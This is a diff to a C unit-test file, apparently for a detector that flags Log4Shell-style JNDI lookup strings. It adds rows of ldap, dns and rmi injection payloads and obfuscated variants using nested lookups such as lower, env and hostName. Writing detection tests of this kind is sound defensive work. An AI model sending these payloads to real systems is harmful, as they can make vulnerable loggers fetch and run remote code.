@@ -27,8 +27,9 @@ static void names_that_connect(void **state)
         ROW("${jndi:ldap://3221225991:1389/a}", "exploit", .indicators = "ldap://3221225991:1389/a"),
         ROW("${jndi:ldap://h.example/a b}", "exploit", .indicators = "ldap://h.example:389/a b"),
         ROW("${jndi:ldap://127.0.0.1/a}", "exploit", .indicators = "ldap://127.0.0.1:389/a", .fires = FIRES_ALL FIRES_LOCAL),
-        ROW("${jndi:ldap:/h.example/a}", "exploit", .normal = "${jndi:ldap:/h.example/a}"),
-        ROW("${jndi:ldap:///a}", "exploit"),
+        ROW("${jndi:ldap:/h.example/a}", "exploit", .indicators = H, .normal = "${jndi:ldap:/h.example/a}"),
+        ROW("${jndi:ldap:///a}", "exploit", .indicators = ""),
+        ROW("${jndi:dns:/x.h.example}", "exploit", .indicators = "dns://x.h.example:53"),
         ROW("${jndi:rmi:/h.example}", "exploit", .normal = "${jndi:rmi:/h.example}"), /* to the local registry */
         ROW("}${jndi:ldap://h.example/a}", "exploit", .fires = FIRES_ALL),
         ROW("{${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_ALL),
@@ -277,6 +278,9 @@ static void tries_that_spell(void **state)
         ROW("${:a:d:-${lower:j}n}di:", "attempt"),
         ROW("${a} ${b:c} text, then jnd${upper:\xc4\xb1}", "attempt"),
         ROW("${lower:jndi}", "attempt"),
+        ROW("${lower:rmi}", "attempt"),
+        ROW("(${${::-j}$", "attempt"),
+        ROW("${${env:BARFOO:-j}", "attempt"),
         ROW("${lower:${:a:d:-${lower:}}jndi:}", "attempt"),
         /* a name hidden in front of an address, which is none in the end */
         ROW("${${hostName:-j}ndi:ldap://h.example/a}", "attempt"),
